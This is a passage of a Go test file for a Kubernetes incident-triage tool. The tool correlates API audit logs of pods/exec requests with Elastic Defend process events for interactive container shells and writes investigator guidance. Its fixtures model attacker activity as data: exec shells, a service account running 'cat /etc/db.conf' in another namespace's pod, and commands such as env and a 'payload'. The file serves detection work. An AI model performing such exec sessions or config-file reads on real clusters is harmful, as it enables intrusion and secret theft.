		return `{"@timestamp":"` + ts + `","event":{"category":["process"],"type":["start"],"action":"exec"},"container":{"id":"c0ffee","name":"api"},"orchestrator":{"namespace":"shop","resource":{"type":"pod","name":"api-1"}},"process":{"entity_id":"` + entity + `","pid":42,"executable":"/bin/bash","name":"bash","args":["/bin/bash"],"interactive":true,"entry_leader":{"entity_id":"` + entity + `","same_as_process":true,"entry_meta":{"type":"container"}}}}`
	}
	rep := triage.Build([]triage.Event{
		event(t, "a.log", 1, auditLine("A1", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00.050Z", true), r1),
		event(t, "a.log", 2, auditLine("A2", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:00:05Z", "2026-11-20T10:00:05.050Z", true), r1),
		event(t, "p.ndjson", 1, shell("S1", "2026-11-20T10:00:00.300Z"), r2),
		event(t, "p.ndjson", 2, shell("S2", "2026-11-20T10:00:05.300Z"), r2),
	}, triage.Options{})
	started := map[string]string{}
	for _, f := range rep.Findings {
		if len(f.Candidates) > 0 {
			t.Errorf("%s has candidates %v: nothing is ambiguous", f.ID, f.Candidates)
		}
		if f.Kind == triage.KindAudit && f.Started != nil {
			started[f.Audit.AuditID] = f.Started.EntityID
		}
	}
	if started["A1"] != "S1" || started["A2"] != "S2" {
		t.Errorf("started %v, want A1 -> S1 and A2 -> S2", started)
	}
}

// Links that follow from other links never take a request that a
// session had as its only explanation: S1 fits only A, S3 only B, S2
// both. S1-A and S3-B stand and S2 stays a tie, in either event order.
func TestLinkInferenceIsOrderFree(t *testing.T) {
	r1, r2 := mustRule(t, rule1), mustRule(t, rule2)
	shell := func(entity, ts string) string {
		return `{"@timestamp":"` + ts + `","event":{"category":["process"],"type":["start"],"action":"exec"},"container":{"id":"c0ffee","name":"api"},"orchestrator":{"namespace":"shop","resource":{"type":"pod","name":"api-1"}},"process":{"entity_id":"` + entity + `","pid":42,"executable":"/bin/bash","name":"bash","args":["/bin/bash"],"interactive":true,"entry_leader":{"entity_id":"` + entity + `","same_as_process":true,"entry_meta":{"type":"container"}}}}`
	}
	audits := []triage.Event{
		event(t, "a.log", 1, auditLine("A", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00.050Z", true), r1),
		event(t, "a.log", 2, auditLine("B", "ResponseStarted", "create", "bob", uriBash, 101, "2026-11-20T10:00:08Z", "2026-11-20T10:00:08.050Z", true), r1),
	}
	procs := []triage.Event{
		event(t, "p.ndjson", 1, shell("S1", "2026-11-20T10:00:01Z"), r2),
		event(t, "p.ndjson", 2, shell("S2", "2026-11-20T10:00:07Z"), r2),
		event(t, "p.ndjson", 3, shell("S3", "2026-11-20T10:00:12Z"), r2),
	}
	for _, reversed := range []bool{false, true} {
		ps := slices.Clone(procs)
		if reversed {
			slices.Reverse(ps)
		}
		rep := triage.Build(append(slices.Clone(audits), ps...), triage.Options{})
		started, tied := map[string]string{}, map[string]int{}
		for _, f := range rep.Findings {
			if f.Kind == triage.KindAudit && f.Started != nil {
				started[f.Audit.AuditID] = f.Started.EntityID
			}
			if f.Kind == triage.KindProcess {
				tied[f.Process.EntityID] = len(f.Candidates)
			}
		}
		if started["A"] != "S1" || started["B"] != "S3" || tied["S2"] != 2 || tied["S1"] != 0 || tied["S3"] != 0 {
			t.Errorf("reversed=%v: started %v, candidates per session %v; want A-S1, B-S3, S2 tied between both", reversed, started, tied)
		}
	}
}

// Two sessions that a round's links leave with the same one request
// explain it equally well: neither takes it, whatever the event order.
func TestLinkInferenceLeavesSymmetricTies(t *testing.T) {
	r1, r2 := mustRule(t, rule1), mustRule(t, rule2)
	shell := func(entity, container, ts string) string {
		return `{"@timestamp":"` + ts + `","event":{"category":["process"],"type":["start"],"action":"exec"},"container":{"id":"c-` + container + `","name":"` + container + `"},"orchestrator":{"namespace":"shop","resource":{"type":"pod","name":"api-1"}},"process":{"entity_id":"` + entity + `","pid":42,"executable":"/bin/bash","name":"bash","args":["/bin/bash"],"interactive":true,"entry_leader":{"entity_id":"` + entity + `","same_as_process":true,"entry_meta":{"type":"container"}}}}`
	}
	anyContainer := strings.Replace(uriBash, "&container=api", "", 1)
	side := strings.Replace(uriBash, "container=api", "container=side", 1)
	audits := []triage.Event{
		event(t, "a.log", 1, auditLine("A", "ResponseStarted", "create", "alice", anyContainer, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00.050Z", true), r1),
		event(t, "a.log", 2, auditLine("B", "ResponseStarted", "create", "bob", side, 101, "2026-11-20T10:00:01Z", "2026-11-20T10:00:01.050Z", true), r1),
	}
	procs := []triage.Event{
		event(t, "p.ndjson", 1, shell("S0", "api", "2026-11-20T10:00:00.500Z"), r2),
		event(t, "p.ndjson", 2, shell("S7", "side", "2026-11-20T10:00:02Z"), r2),
		event(t, "p.ndjson", 3, shell("S9", "side", "2026-11-20T10:00:03Z"), r2),
	}
	for _, reversed := range []bool{false, true} {
		ps := slices.Clone(procs)
		if reversed {
			slices.Reverse(ps)
		}
		started := map[string]string{}
		for _, f := range triage.Build(append(slices.Clone(audits), ps...), triage.Options{}).Findings {
			if f.Kind == triage.KindAudit && f.Started != nil {
				started[f.Audit.AuditID] = f.Started.EntityID
			}
		}
		if len(started) != 1 || started["A"] != "S0" {
			t.Errorf("reversed=%v: started %v, want only A-S0 (S7 and S9 fit B equally)", reversed, started)
		}
	}
	// B's guide says the sessions are there but tie, not that none was
	// among the events.
	for _, f := range triage.Build(append(slices.Clone(audits), procs...), triage.Options{Guide: true}).Findings {
		if f.Kind == triage.KindAudit && f.Audit.AuditID == "B" &&
			(!strings.Contains(f.Guidance, "Several sessions in the process events fit this request equally well") || strings.Contains(f.Guidance, "No session in the process events")) {
			t.Errorf("B's guide on its tied sessions:\n%s", f.Guidance)
		}
	}
}

// An event without a user gives a can-i check with a placeholder to fill,
// never one without --as, which would check the investigator's own rights.
func TestGuideWithoutUserAsksForOne(t *testing.T) {
	r1 := mustRule(t, rule1)
	uri := "/api/v1/namespaces/shop/pods/api-1/exec?command=bash&stdin=true&stdout=true&tty=true"
	line := auditLine("A", "ResponseStarted", "create", "alice", uri, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00.050Z", true)
	for _, raw := range []string{
		strings.Replace(line, `"user":{"username":"alice","groups":["devs","system:authenticated"]},`, "", 1),
		strings.Replace(line, `"username":"alice",`, "", 1),
	} {
		rep := triage.Build([]triage.Event{event(t, "audit.log", 1, raw, r1)}, triage.Options{Guide: true})
		if len(rep.Findings) != 1 {
			t.Fatalf("%d findings", len(rep.Findings))
		}
		g := rep.Findings[0].Guidance
		if !strings.Contains(g, "kubectl auth can-i create pods/exec -n shop --as '<user>'") {
			t.Errorf("guide without a user:\n%s", g)
		}
	}
}

// An event without a time says so in the guide's sentences, which put the
// time after "at" and "around".
func TestGuideWithoutTime(t *testing.T) {
	r1 := mustRule(t, rule1)
	uri := "/api/v1/namespaces/shop/pods/api-1/exec?command=bash&stdin=true&stdout=true&tty=true"
	line := auditLine("A", "ResponseStarted", "create", "alice", uri, 101, "", "", true)
	line = strings.Replace(strings.Replace(line, `,"requestReceivedTimestamp":""`, "", 1), `,"stageTimestamp":""`, "", 1)
	rep := triage.Build([]triage.Event{event(t, "audit.log", 1, line, r1)}, triage.Options{Guide: true})
	if len(rep.Findings) != 1 {
		t.Fatalf("%d findings", len(rep.Findings))
	}
	if g := rep.Findings[0].Guidance; !strings.Contains(g, "at an unknown time") || strings.Contains(g, " at .") || strings.Contains(g, "around .") {
		t.Errorf("guide without a time:\n%s", g)
	}
}

// A service account's bound token names the pod it was issued to: the
// finding says where the request was made from, and its guide says to look
// at that pod first.
func TestTokenBoundPod(t *testing.T) {
	r1 := mustRule(t, rule1)
	uri := "/api/v1/namespaces/payments/pods/ledger-0/exec?command=cat&command=%2Fetc%2Fdb.conf&stdout=true&stderr=true"
	line := auditLine("A", "ResponseStarted", "create", "system:serviceaccount:shop:api", uri, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00.050Z", true)
	bound := strings.Replace(line, `"groups":["devs","system:authenticated"]`,
		`"groups":["system:serviceaccounts","system:authenticated"],"extra":{"authentication.kubernetes.io/pod-name":["api-7d9f-x2x4q"],"authentication.kubernetes.io/node-name":["wk-1"]}`, 1)
	rep := triage.Build([]triage.Event{event(t, "audit.log", 1, bound, r1)}, triage.Options{Guide: true})
	if len(rep.Findings) != 1 || rep.Findings[0].User == nil {
		t.Fatalf("findings %+v", rep.Findings)
	}
	f := rep.Findings[0]
	if f.User.TokenPod != "shop/api-7d9f-x2x4q" || f.User.TokenNode != "wk-1" {
		t.Errorf("token pod %q node %q, want shop/api-7d9f-x2x4q and wk-1", f.User.TokenPod, f.User.TokenNode)
	}
	if !strings.Contains(f.Guidance, "the token bound to pod shop/api-7d9f-x2x4q on node wk-1") {
		t.Errorf("guide:\n%s", f.Guidance)
	}
	// A user who is no service account has no bound pod, whatever the
	// extra fields say.
	human := strings.Replace(bound, `"system:serviceaccount:shop:api"`, `"alice"`, 1)
	rep = triage.Build([]triage.Event{event(t, "audit.log", 1, human, r1)}, triage.Options{Guide: true})
	if u := rep.Findings[0].User; u.TokenPod != "" || strings.Contains(rep.Findings[0].Guidance, "token bound to pod") {
		t.Errorf("alice has a token pod %q", u.TokenPod)
	}
}

// A shell no exec request was linked to asks for the audit log only when
// none was scanned; with audit events scanned, it says none fits and how
// to list the attempts on the pod.
func TestProcessGuideKnowsAuditWasScanned(t *testing.T) {
	r2 := mustRule(t, rule2)
	shell := `{"@timestamp":"2026-11-20T10:00:00.500Z","event":{"category":["process"],"type":["start"],"action":"exec"},"container":{"id":"c-api","name":"api"},"orchestrator":{"namespace":"shop","resource":{"type":"pod","name":"api-1"}},"process":{"entity_id":"S0","pid":42,"executable":"/bin/bash","name":"bash","args":["/bin/bash"],"interactive":true,"entry_leader":{"entity_id":"S0","same_as_process":true,"entry_meta":{"type":"container"}}}}`
	for _, scanned := range []bool{false, true} {
		rep := triage.Build([]triage.Event{event(t, "p.ndjson", 1, shell, r2)}, triage.Options{Guide: true, AuditScanned: scanned, Inputs: []string{"logs/"}})
		if len(rep.Findings) != 1 {
			t.Fatalf("%d findings", len(rep.Findings))
		}
		g := rep.Findings[0].Guidance
		asks := strings.Contains(g, "Scan the API server audit log of the same period")
		says := strings.Contains(g, "no exec request in the audit events\n   scanned fits this shell") && strings.Contains(g, "subresource:(exec or attach)' logs/")
		if asks == scanned || says != scanned {
			t.Errorf("audit scanned %v: guide asks for it %v, says none fits %v:\n%s", scanned, asks, says, g)
		}
	}
}

// The end of a session's first process says when the session ended and
// with what code: on the finding about the process (the end event is its
// context), on the process an exec request started, in the guides. The
// end's own time stands in for a missing or unreadable process.end; an
// exit code is read as a long, as Elasticsearch indexes it.
func TestSessionEnd(t *testing.T) {
	r1, r2 := mustRule(t, rule1), mustRule(t, rule2)
	leader := `{"@timestamp":"2026-11-20T10:00:00.300Z","event":{"category":["process"],"type":["start"],"action":"exec"},"container":{"id":"c0ffee","name":"api"},"orchestrator":{"namespace":"shop","resource":{"type":"pod","name":"api-1"}},"process":{"entity_id":"E1","pid":42,"executable":"/bin/bash","name":"bash","args":["/bin/bash"],"interactive":true,"entry_leader":{"entity_id":"E1","same_as_process":true,"entry_meta":{"type":"container"}}}}`
	end := func(procEnd, code string) string {
		s := strings.Replace(leader, `"type":["start"],"action":"exec"`, `"type":["end"],"action":"end"`, 1)
		s = strings.Replace(s, `"2026-11-20T10:00:00.300Z"`, `"2026-11-20T10:04:00.300Z"`, 1)
		extra := ""
		if procEnd != "" {
			extra += `"end":` + procEnd + `,`
		}
		if code != "" {
			extra += `"exit_code":` + code + `,`
		}
		return strings.Replace(s, `"process":{`, `"process":{`+extra, 1)
	}
	ctx := func(line int64, raw string, rs ...*rules.Rule) triage.Event {
		ev := event(t, "p.ndjson", line, raw, rs...)
		ev.Context = []string{triage.ContextShellEnds}
		return ev
	}
	for _, tc := range []struct {
		name    string
		ends    []triage.Event
		wantEnd string
		code    string // "" for none
		guide   string
	}{
		{"process.end and a code", []triage.Event{ctx(2, end(`"2026-11-20T10:03:59.900Z"`, "130"))}, "2026-11-20T10:03:59.9Z", "130",
			"It ended at 2026-11-20T10:03:59.9Z with exit code 130, 3m 59s after it started."},
		{"code as a string", []triage.Event{ctx(2, end("", `"2"`))}, "2026-11-20T10:04:00.3Z", "2",
			"It ended at 2026-11-20T10:04:00.3Z with exit code 2, 4m 0s after it started."},
		{"no date in process.end, no code", []triage.Event{ctx(2, end(`"soon"`, `"two"`))}, "2026-11-20T10:04:00.3Z", "",
			"It ended at 2026-11-20T10:04:00.3Z, 4m 0s after it started."},
		{"the first end kept", []triage.Event{ctx(2, end("", "0")), ctx(3, end(`"2026-11-20T11:00:00Z"`, "1"))}, "2026-11-20T10:04:00.3Z", "0",
			"It ended at 2026-11-20T10:04:00.3Z with exit code 0, 4m 0s after it started."},
		{"no end", nil, "", "", "No end of it is in the logs scanned: it may still be open."},
	} {
		events := append([]triage.Event{
			event(t, "a.log", 1, auditLine("A", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00.050Z", true), r1),
			event(t, "p.ndjson", 1, leader, r2),
		}, tc.ends...)
		rep := triage.Build(events, triage.Options{Guide: true})
		var proc, exec *triage.Finding
		for _, f := range rep.Findings {
			switch f.Kind {
			case triage.KindProcess:
				proc = f
			case triage.KindAudit:
				exec = f
			}
		}
		if proc == nil || exec == nil || exec.Started == nil {
			t.Fatalf("%s: want a process finding and an exec finding linked to it, got %+v", tc.name, rep.Findings)
		}
		for who, p := range map[string]*triage.Process{"process finding": proc.Process, "exec's started process": exec.Started} {
			code := ""
			if p.ExitCode != nil {
				code = strconv.FormatInt(*p.ExitCode, 10)
			}
			if p.End != tc.wantEnd || code != tc.code {
				t.Errorf("%s: %s: end %q exit %q, want %q and %q", tc.name, who, p.End, code, tc.wantEnd, tc.code)
			}
		}
		if !strings.Contains(proc.Guidance, tc.guide) {
			t.Errorf("%s: the shell's guide does not say %q:\n%s", tc.name, tc.guide, proc.Guidance)
		}
		if wantCtx := len(tc.ends) > 0; wantCtx != (len(proc.Context) == 1 && proc.Context[0].Note == "process end" && proc.Context[0].Line == 2) {
			t.Errorf("%s: context %+v, want the end event (line 2) only", tc.name, proc.Context)
		}
		if said := strings.Contains(exec.Guidance, "/bin/bash exited with code"); said != (tc.code != "") {
			t.Errorf("%s: the exec's guide says the exit code: %v, want %v", tc.name, said, tc.code != "")
		}
	}

	// A rule that matched the end event has it as evidence already: it
	// is not listed again as context.
	any := userRule(t, "u-bash", "bash", `process.name:bash`, "")
	rep := triage.Build([]triage.Event{event(t, "p.ndjson", 1, leader, any), ctx(2, end("", "0"), any)}, triage.Options{})
	if len(rep.Findings) != 1 || len(rep.Findings[0].Evidence) != 2 || len(rep.Findings[0].Context) != 0 || rep.Findings[0].Process.End == "" {
		t.Errorf("a rule matching the end too: %d findings, evidence %+v, context %+v", len(rep.Findings), rep.Findings[0].Evidence, rep.Findings[0].Context)
	}
}

// The end selectors pick a session's first process's end, not its
// start, and split those of interactive sessions (every one kept) from
// the rest (kept like their sessions); the ends of commands are read in
// interactive sessions only.
func TestContextQueriesSelectSessionEnds(t *testing.T) {
	doc := func(typ string, same, interactive bool) rules.Document {
		d, _ := scan.Adapt([]byte(fmt.Sprintf(`{"event":{"category":["process"],"type":[%q],"action":%q},"process":{"entity_id":"P","interactive":%t,"entry_leader":{"entity_id":"L","interactive":%t,"same_as_process":%t,"entry_meta":{"type":"container"}}}}`,
			typ, map[string]string{"start": "exec", "end": "end"}[typ], interactive, interactive, same)))
		return d
	}
	for _, tc := range []struct {
		typ               string
		same, interactive bool
		want              string
	}{
		{"end", true, true, triage.ContextShellEnds},
		{"end", true, false, triage.ContextQuietEnds},
		{"end", false, true, triage.ContextCommandEnds},
		{"end", false, false, ""}, // a probe's children's: not read
		{"start", true, true, triage.ContextShells},
		{"start", true, false, triage.ContextQuiet},
		{"start", false, true, triage.ContextCommands},
		{"start", false, false, triage.ContextQuiet},
	} {
		var got []string
		for _, c := range triage.ContextQueries() {
			m, err := rules.Compile(c.Expr)
			if err != nil {
				t.Fatal(err)
			}
			if m.Match(doc(tc.typ, tc.same, tc.interactive)) {
				got = append(got, c.Name)
			}
		}
		if strings.Join(got, ",") != tc.want {
			t.Errorf("%s, leader %v, interactive %v: selected by %q, want %q", tc.typ, tc.same, tc.interactive, got, tc.want)
		}
	}
	// A shell's end that says it had a terminal only in entry_leader
	// is a shell's end: whether a session had one is its entry
	// leader's.
	d, _ := scan.Adapt([]byte(`{"event":{"category":["process"],"type":["end"],"action":"end"},"process":{"entity_id":"L","entry_leader":{"entity_id":"L","interactive":true,"same_as_process":true,"entry_meta":{"type":"container"}}}}`))
	for _, c := range triage.ContextQueries() {
		m, _ := rules.Compile(c.Expr)
		if m.Match(d) != (c.Name == triage.ContextShellEnds) {
			t.Errorf("an end with only entry_leader.interactive: %s says %v", c.Name, m.Match(d))
		}
	}
}

// A command's end gives its exit code: matched by entity ID, the first
// end read of each; a process that exec'd twice ended once, as its last
// program; a command whose end is not in the logs has none.
func TestSessionCommandEnds(t *testing.T) {
	r2 := mustRule(t, rule2)
	leader := `{"@timestamp":"2026-11-20T10:00:00.300Z","event":{"category":["process"],"type":["start"],"action":"exec"},"container":{"id":"c0ffee","name":"api"},"orchestrator":{"namespace":"shop","resource":{"type":"pod","name":"api-1"}},"process":{"entity_id":"E1","pid":42,"executable":"/bin/bash","name":"bash","args":["/bin/bash"],"interactive":true,"entry_leader":{"entity_id":"E1","same_as_process":true,"entry_meta":{"type":"container"}}}}`
	proc := func(typ, entity, ts, arg, extra string) string {
		action := map[string]string{"start": "exec", "end": "end"}[typ]
		return `{"@timestamp":"` + ts + `","event":{"category":["process"],"type":["` + typ + `"],"action":"` + action + `"},"container":{"id":"c0ffee","name":"api"},"process":{` + extra + `"entity_id":"` + entity + `","executable":"/usr/bin/` + arg + `","args":["` + arg + `"],"entry_leader":{"entity_id":"E1","interactive":true,"entry_meta":{"type":"container"}}}}`
	}
	ctx := func(line int64, name, raw string) triage.Event {
		ev := event(t, "p.ndjson", line, raw)
		ev.Context = []string{name}
		return ev
	}
	rep := triage.Build([]triage.Event{
		event(t, "p.ndjson", 1, leader, r2),
		ctx(2, triage.ContextCommands, proc("start", "C1", "2026-11-20T10:00:01Z", "cat", "")),
		ctx(3, triage.ContextCommandEnds, proc("end", "C1", "2026-11-20T10:00:01.5Z", "cat", `"exit_code":1,`)),
		ctx(4, triage.ContextCommands, proc("start", "C2", "2026-11-20T10:00:02Z", "env", "")),
		ctx(5, triage.ContextCommands, proc("start", "C3", "2026-11-20T10:00:03Z", "sh", "")),
		ctx(6, triage.ContextCommands, proc("start", "C3", "2026-11-20T10:00:03.1Z", "payload", "")),
		ctx(7, triage.ContextCommandEnds, proc("end", "C3", "2026-11-20T10:00:09Z", "payload", `"end":"2026-11-20T10:00:08.9Z","exit_code":"137",`)),
		ctx(8, triage.ContextCommandEnds, proc("end", "C3", "2026-11-20T10:00:10Z", "payload", `"exit_code":0,`)),
		ctx(9, triage.ContextCommandEnds, proc("end", "F1", "2026-11-20T10:00:11Z", "bash", `"exit_code":2,`)), // a subshell's: no command
	}, triage.Options{})
	if len(rep.Findings) != 1 {
		t.Fatalf("%d findings, want the shell's", len(rep.Findings))
	}
	var got []string
	for _, c := range rep.Findings[0].Commands {
		code := "-"
		if c.ExitCode != nil {
			code = strconv.FormatInt(*c.ExitCode, 10)
		}
		got = append(got, fmt.Sprintf("%s:%s@%s", c.Args[0], code, c.End))
	}
	want := "cat:1@2026-11-20T10:00:01.5Z env:-@ sh:-@ payload:137@2026-11-20T10:00:08.9Z"
	if strings.Join(got, " ") != want {
		t.Errorf("commands\n got %s\nwant %s", strings.Join(got, " "), want)
	}
}

// A process event without a @timestamp (an export that dropped it) is
// placed by when its process started, which Defend records on every
// event: the shell's finding has a time and is linked to its request,
// and its commands are in order.
func TestProcessEventsWithoutTimestamp(t *testing.T) {
	r1, r2 := mustRule(t, rule1), mustRule(t, rule2)
	leader := `{"event":{"category":["process"],"type":["start"],"action":"exec"},"container":{"id":"c0ffee","name":"api"},"orchestrator":{"namespace":"shop","resource":{"type":"pod","name":"api-1"}},"process":{"entity_id":"E1","pid":42,"executable":"/bin/bash","args":["/bin/bash"],"interactive":true,"start":"2026-11-20T10:00:00.300Z","entry_leader":{"entity_id":"E1","same_as_process":true,"entry_meta":{"type":"container"}}}}`
	cmd := func(entity, start, arg string) triage.Event {
		ev := event(t, "p.ndjson", 2, `{"@timestamp":"not a date","event":{"category":["process"],"type":["start"],"action":"exec"},"container":{"id":"c0ffee","name":"api"},"process":{"entity_id":"`+entity+`","args":["`+arg+`"],"start":"`+start+`","entry_leader":{"entity_id":"E1","interactive":true,"entry_meta":{"type":"container"}}}}`)
		ev.Context = []string{triage.ContextCommands}
		return ev
	}
	rep := triage.Build([]triage.Event{
		event(t, "a.log", 1, auditLine("A", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00.050Z", true), r1),
		event(t, "p.ndjson", 1, leader, r2),
		cmd("C2", "2026-11-20T10:00:09Z", "env"),
		cmd("C1", "2026-11-20T10:00:05Z", "id"),
	}, triage.Options{})
	var shell *triage.Finding
	for _, f := range rep.Findings {
		if f.Kind == triage.KindProcess {
			shell = f
		}
	}
	if shell == nil || shell.Timestamp != "2026-11-20T10:00:00.3Z" || len(shell.Related) != 1 {
		t.Fatalf("shell finding %+v: want the process's start as its time, linked to the exec", shell)
	}
	var got []string
	for _, c := range shell.Commands {
		got = append(got, c.Args[0]+"@"+c.Time)
	}
	if want := "id@2026-11-20T10:00:05Z env@2026-11-20T10:00:09Z"; strings.Join(got, " ") != want {
		t.Errorf("commands %v, want %s", got, want)
	}
}

// What a session's end tells is the same whatever reports the shell and
// whatever order the logs are read in: two rules about one shell both
// get its end, commands and request; of two ends of one process the
// earliest wins; a command's end is looked for in its own session; an
// end in another container, though it has the shell's entity ID, is not
// the shell's.
func TestSessionEndIsTheSameForEveryFindingAndOrder(t *testing.T) {
	r1, r2 := mustRule(t, rule1), mustRule(t, rule2)
	bash := userRule(t, "u-bash", "bash in a container", `process.entry_leader.same_as_process:true and process.name:bash`, "")
	leader := `{"@timestamp":"2026-11-20T10:00:00.300Z","event":{"category":["process"],"type":["start"],"action":"exec"},"container":{"id":"c0ffee","name":"api"},"orchestrator":{"namespace":"shop","resource":{"type":"pod","name":"api-1"}},"process":{"entity_id":"E1","pid":42,"executable":"/bin/bash","name":"bash","args":["/bin/bash"],"interactive":true,"entry_leader":{"entity_id":"E1","interactive":true,"same_as_process":true,"entry_meta":{"type":"container"}}}}`
	end := func(container, ts, code string) string {
		s := strings.Replace(leader, `"type":["start"],"action":"exec"`, `"type":["end"],"action":"end"`, 1)
		s = strings.Replace(s, `"2026-11-20T10:00:00.300Z"`, `"`+ts+`"`, 1)
		s = strings.Replace(s, `"id":"c0ffee"`, `"id":"`+container+`"`, 1)
		return strings.Replace(s, `"process":{`, `"process":{"exit_code":`+code+`,`, 1)
	}
	cmd := func(typ, leader, ts, code string) string {
		action, extra := "exec", ""
		if typ == "end" {
			action, extra = "end", `"exit_code":`+code+`,`
		}
		return `{"@timestamp":"` + ts + `","event":{"category":["process"],"type":["` + typ + `"],"action":"` + action + `"},"container":{"id":"c0ffee","name":"api"},"process":{` + extra + `"entity_id":"C1","executable":"/bin/cat","args":["cat"],"entry_leader":{"entity_id":"` + leader + `","interactive":true,"entry_meta":{"type":"container"}}}}`
	}
	ctx := func(file string, line int64, name, raw string, rs ...*rules.Rule) triage.Event {
		ev := event(t, file, line, raw, rs...)
		ev.Context = []string{name}
		return ev
	}
	events := []triage.Event{
		event(t, "a.log", 1, auditLine("A", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00.050Z", true), r1),
		event(t, "p.ndjson", 1, leader, r2, bash),
		ctx("p.ndjson", 2, triage.ContextShellEnds, end("beef", "2026-11-20T10:00:01Z", "99")), // another container's
		ctx("p.ndjson", 3, triage.ContextShellEnds, end("c0ffee", "2026-11-20T10:09:00Z", "1")),
		ctx("q.ndjson", 1, triage.ContextShellEnds, end("c0ffee", "2026-11-20T10:05:00Z", "0")), // the earliest
		ctx("p.ndjson", 4, triage.ContextCommands, cmd("start", "E1", "2026-11-20T10:00:02Z", "")),
		ctx("p.ndjson", 5, triage.ContextCommandEnds, cmd("end", "OTHER", "2026-11-20T10:00:02.5Z", "5")), // another session's C1
		ctx("p.ndjson", 6, triage.ContextCommandEnds, cmd("end", "E1", "2026-11-20T10:00:03Z", "2")),
	}
	var stories []string
	reversed := slices.Clone(events)
	slices.Reverse(reversed)
	for _, order := range [][]triage.Event{events, reversed} {
		rep := triage.Build(order, triage.Options{Guide: true})
		if len(rep.Findings) != 3 {
			t.Fatalf("%d findings, want the exec and two about the shell", len(rep.Findings))
		}
		var story []string
		for _, f := range rep.Findings {
			if f.Kind != triage.KindProcess {
				continue
			}
			p, c := f.Process, f.Commands
			if p.ExitCode == nil || len(c) != 1 || c[0].ExitCode == nil || len(f.Related) != 2 {
				t.Fatalf("%s: end %q code %v, commands %+v, related %v: want an end, a command with a code, the exec and the other finding", f.Rule.Name, p.End, p.ExitCode, c, f.Related)
			}
			story = append(story, fmt.Sprintf("%s ended %s exit %d; cat exit %d at %s", f.Rule.Name, p.End, *p.ExitCode, *c[0].ExitCode, c[0].End))
			if !strings.Contains(f.Guidance, "It ended at 2026-11-20T10:05:00Z") && f.Rule.ID == rule2 {
				t.Errorf("the shell's guide does not say when it ended:\n%s", f.Guidance)
			}
		}
		slices.Sort(story)
		stories = append(stories, strings.Join(story, "\n"))
	}
	want := "Interactive Exec Command Launched Against A Running Container ended 2026-11-20T10:05:00Z exit 0; cat exit 2 at 2026-11-20T10:00:03Z\n" +
		"bash in a container ended 2026-11-20T10:05:00Z exit 0; cat exit 2 at 2026-11-20T10:00:03Z"
	for i, s := range stories {
		if s != want {
			t.Errorf("order %d:\n%s\nwant\n%s", i, s, want)
		}
	}
}

// An end event without a date still says the process ended, and with
// what code; one before the start says the clock or the log is wrong. A
// merged start and end without @timestamp starts at process.start. An
// exec request without ResponseComplete whose process ended is over; a
// shell without an end whose request closed says when it closed.
func TestSessionEndEdges(t *testing.T) {
	r1, r2 := mustRule(t, rule1), mustRule(t, rule2)
	leader := `{"@timestamp":"2026-11-20T10:00:00.300Z","event":{"category":["process"],"type":["start"],"action":"exec"},"container":{"id":"c0ffee","name":"api"},"orchestrator":{"namespace":"shop","resource":{"type":"pod","name":"api-1"}},"process":{"entity_id":"E1","pid":42,"executable":"/bin/bash","name":"bash","args":["/bin/bash"],"interactive":true,"start":"2026-11-20T10:00:00.300Z","entry_leader":{"entity_id":"E1","same_as_process":true,"entry_meta":{"type":"container"}}}}`
	endEv := func(raw string) triage.Event {
		ev := event(t, "p.ndjson", 2, raw)
		ev.Context = []string{triage.ContextShellEnds}
		return ev
	}
	build := func(stage string, evs ...triage.Event) (exec, shell *triage.Finding) {
		all := append([]triage.Event{event(t, "a.log", 1, auditLine("A", stage, "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:03:00Z", true), r1)}, evs...)
		for _, f := range triage.Build(all, triage.Options{Guide: true}).Findings {
			switch f.Kind {
			case triage.KindAudit:
				exec = f
			case triage.KindProcess:
				shell = f
			}
		}
		if exec == nil || shell == nil {
			t.Fatal("want an exec and a shell finding")
		}
		return exec, shell
	}
	noDate := strings.Replace(strings.Replace(leader, `"@timestamp":"2026-11-20T10:00:00.300Z",`, "", 1), `"type":["start"],"action":"exec"`, `"type":["end"],"action":"end"`, 1)
	noDate = strings.Replace(noDate, `"process":{`, `"process":{"exit_code":137,`, 1)
	_, shell := build("ResponseStarted", event(t, "p.ndjson", 1, leader, r2), endEv(noDate))
	if shell.Process.End != "" || shell.Process.ExitCode == nil || *shell.Process.ExitCode != 137 || !strings.Contains(shell.Guidance, "It ended at an unknown time with exit code 137") {
		t.Errorf("end without a date: end %q code %v, guide:\n%s", shell.Process.End, shell.Process.ExitCode, shell.Guidance)
	}
	if len(shell.Context) != 1 || shell.Context[0].Time != "" {
		t.Errorf("end without a date: context %+v, want the end event without a time", shell.Context)
	}

	before := strings.Replace(noDate, `"exit_code":137,`, `"exit_code":0,"end":"2026-11-20T10:00:00.100Z",`, 1)
	exec, shell := build("ResponseStarted", event(t, "p.ndjson", 1, leader, r2), endEv(before))
	if !slices.ContainsFunc(shell.Notes, func(n string) bool { return strings.Contains(n, "before it started") }) {
		t.Errorf("an end before the start: notes %q", shell.Notes)
	}
	if !slices.ContainsFunc(exec.Notes, func(n string) bool { return strings.Contains(n, "the session is over") }) ||
		slices.ContainsFunc(exec.Notes, func(n string) bool { return strings.Contains(n, "may still have been open") }) ||
		!strings.Contains(exec.Guidance, "but the process the request started ended at 2026-11-20T10:00:00.1Z: the session is over") {
		t.Errorf("no ResponseComplete, the process ended: notes %q, guide:\n%s", exec.Notes, exec.Guidance)
	}

	merged := strings.Replace(strings.Replace(leader, `"@timestamp":"2026-11-20T10:00:00.300Z",`, "", 1), `"type":["start"]`, `"type":["start","end"]`, 1)
	merged = strings.Replace(merged, `"process":{`, `"process":{"end":"2026-11-20T10:00:00.900Z","exit_code":3,`, 1)
	m := event(t, "p.ndjson", 1, merged, r2)
	m.Context = []string{triage.ContextShellEnds}
	_, shell = build("ResponseComplete", m)
	if shell.Timestamp != "2026-11-20T10:00:00.3Z" || shell.Process.End != "2026-11-20T10:00:00.9Z" {
